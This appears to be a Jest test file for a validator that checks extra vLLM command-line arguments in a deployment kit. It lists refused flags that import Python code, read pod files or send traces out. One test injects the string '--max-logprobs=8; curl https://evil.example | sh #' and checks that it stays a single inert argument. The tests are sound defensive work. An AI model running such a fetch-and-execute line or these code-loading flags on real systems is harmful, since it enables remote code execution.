/** extraArgs judged as vLLM's own parser reads them (core/schema/vllm-flags.ts). */
import { extraArgProblems } from "../../core/schema/vllm-flags";
import { vllmArgs } from "../../core/vllm-server-spec";
import { environmentFrom } from "../helpers/synth";

const problemOf = (...args: string[]) => extraArgProblems(args);

describe("a kit-managed flag is refused in every spelling vLLM accepts, naming the field that manages it", () => {
  it.each([
    ["--tensor-parallel-size=2", "tensorParallel"],
    ["--tensor_parallel_size=2", "tensorParallel"], // `_` is `-` to FlexibleArgumentParser
    ["--tensor-para=2", "tensorParallel"], // argparse abbreviation
    ["--tensor-parallel", "tensorParallel"],
    ["-tp=2", "tensorParallel"],
    ["-tp", "tensorParallel"],
    ["-t", "tensorParallel"], // abbreviates -tp
    ["--pipeline_parallel_size=2", "pipelineParallel"],
    ["-pp", "pipelineParallel"],
    ["--max-model-len=1k", "maxModelLen"],
    ["--max_model_len", "maxModelLen"],
    ["--served-model-name=other", "servedName"],
    ["--model=evil/model", "model"],
    ["--gpu_memory_utilization=0.5", "gpuMemoryUtilization"],
    ["--kv-cache-memory-bytes=1G", "gpuMemoryUtilization"],
    ["--num-gpu-blocks-override=10", "gpuMemoryUtilization"],
    ["--dtype=float32", "dtype"],
    ["-q", "quantization"],
    ["-qawq", "quantization"], // a one-letter flag takes its value attached
    ["--kv_cache_dtype=fp8", "kvCacheDtype"],
    ["--trust-remote-code", "trustRemoteCode"],
    ["--no-trust-remote-code", "trustRemoteCode"], // BooleanOptionalAction's negation
    ["--trust-remote", "trustRemoteCode"],
    ["--api-key=sk", "auth.apiKey"],
    ["--api_key=sk", "auth.apiKey"],
    ["--api-key.x=1", "auth.apiKey"], // a dotted key of a JSON flag is that flag
    ["--hf-token=hf_x", "auth.huggingFaceToken"],
    ["--hf_token", "auth.huggingFaceToken"],
    ["--download-dir=/tmp", "modelCache"],
    ["--data-parallel-size=2", "replicas"],
    ["-dp", "replicas"],
    ["-dpl=2", "replicas"],
    ["--data_parallel_size_local=2", "replicas"],
    ["--distributed-executor-backend=mp", "tensorParallel × pipelineParallel"],
    ["--nnodes=2", "tensorParallel × pipelineParallel"],
    ["-n2", "tensorParallel × pipelineParallel"],
    ["--headless", "tensorParallel × pipelineParallel"],
    ["--revision=abc", "revision"],
    ["--tokenizer_revision=abc", "revision"],
    ["--code-revision=abc", "revision"],
  ])("%s → %s", (arg, field) => {
    const [problem] = problemOf(arg);
    expect(problem).toMatchObject({ index: 0, fix: expect.stringContaining(`set ${field} instead`) });
    expect(problem.message).toContain(`managed by the kit from ${field}`);
  });
});

describe("flags that would run code, read files or send data out are refused outright", () => {
  it.each([
    ["--config=/etc/x.yaml", "reads more flags from a file"],
    ["--config", "reads more flags from a file"],
    ["--conf=x.yaml", "abbreviates --config"],
    ["--middleware=os.system", "imports and runs Python code"],
    ["--logits-processors=evil.Proc", "imports and runs Python code"],
    ["--worker_extension_cls=evil.W", "imports and runs Python code"],
    ["--tool-parser-plugin=/tmp/p.py", "imports and runs Python code"],
    ["--tool-server=demo", "execute model-generated code"],
    ["--allowed-local-media-path=/", "read files of the vLLM pod"],
    ["--trust-request-chat-template", "run its own chat template"],
    ["--otlp-traces-endpoint=http://x", "sends request traces out"],
    ["--host=0.0.0.0", "fixed port"],
    ["--port=1", "fixed port"],
    ["--uds=/tmp/s", "fixed port"],
    ["--ssl-keyfile=/k", "plain HTTP to vLLM inside the pod"],
    ["--no-enable-prefix-caching", "always enables prefix caching"],
    ["--tokenizer=other/tokenizer", "pins only the model's own repo"],
    ["--hf-config-path=other/config", "pins only the model's own repo"],
    ["--enable_prefix_caching", "always enables prefix caching"],
  ])("%s", (arg, reason) => {
    expect(problemOf(arg)[0].message).toContain(reason);
  });
});

describe("each entry is one argument", () => {
  it("refuses a flag and its value in one entry, with the spelling that works", () => {
    const [problem] = problemOf("--host 127.0.0.1");
    expect(problem.message).toContain("holds a flag and its value in one entry");
    expect(problem.fix).toBe('write "--host=127.0.0.1", or "--host" and its value as two entries');
    expect(problemOf("--max-num-seqs 8")[0].fix).toContain('"--max-num-seqs=8"');
  });

  it("refuses a value with no flag before it, an empty entry and bare dashes", () => {
    expect(problemOf("8", "--max-num-seqs")[0]).toMatchObject({ index: 0, message: '"8" is a value with no flag before it' });
    expect(problemOf("--enforce-eager", " ")[0]).toMatchObject({ index: 1, message: "an empty entry" });
    expect(problemOf("--")[0].message).toBe('"--" is not a flag');
    expect(problemOf("--Max-Num-Seqs=8")[0].message).toContain("is not spelt like a vLLM flag");
  });

  it("accepts ordinary tuning flags, values after their flag, negative numbers, -O levels and exact flags beside refused ones", () => {
    expect(
      problemOf(
        "--enable-chunked-prefill",
        "--max-logprobs=5",
        "--max-logprobs",
        "8",
        "--seed",
        "-1",
        "-O3",
        "--reasoning-parser=deepseek_r1", // an exact flag, not an abbreviation of --reasoning-parser-plugin
        "--chat-template={% for m in messages %}{{ m.content | trim }}{% endfor %}",
        "--config-format=hf", // --config is refused, --config-format is its own flag
        "--tokenizer-mode=mistral", // --tokenizer is refused, --tokenizer-mode is its own flag
        "--enable-expert-parallel",
      ),
    ).toEqual([]);
  });

  it("keeps an accepted entry one argv element, whatever it holds", () => {
    const hostile = "--max-logprobs=8; curl https://evil.example | sh #";
    const environment = environmentFrom(`
target: { kind: kubernetes, context: lab }
image: { tag: v0.11.0 }
gpuPools: [{ name: gpu, gpu: L4, gpusPerNode: 1, nodes: 1 }]
models:
  - { servedName: coder, model: qwen2.5-coder-7b-instruct, role: both, pool: gpu, maxModelLen: 16384, extraArgs: ["${hostile.replace(/"/g, '\\"')}"] }
`);
    const args = vllmArgs(environment.models[0]);
    expect(args[args.length - 1]).toBe(hostile);
    expect(args.filter((arg) => arg.includes("curl"))).toHaveLength(1);
  });
});

describe("trustRemoteCode", () => {
  const yaml = (trust: string) => `
target: { kind: kubernetes, context: lab }
image: { tag: v0.11.0 }
gpuPools: [{ name: gpu, gpu: L4, gpusPerNode: 1, nodes: 1 }]
models: [{ servedName: coder, model: qwen2.5-coder-7b-instruct, role: both, pool: gpu, maxModelLen: 16384${trust} }]
`;

  it("is the only way to pass --trust-remote-code, and passes it", () => {
    expect(vllmArgs(environmentFrom(yaml(", trustRemoteCode: true")).models[0])).toContain("--trust-remote-code");
    expect(vllmArgs(environmentFrom(yaml("")).models[0])).not.toContain("--trust-remote-code");
  });
});
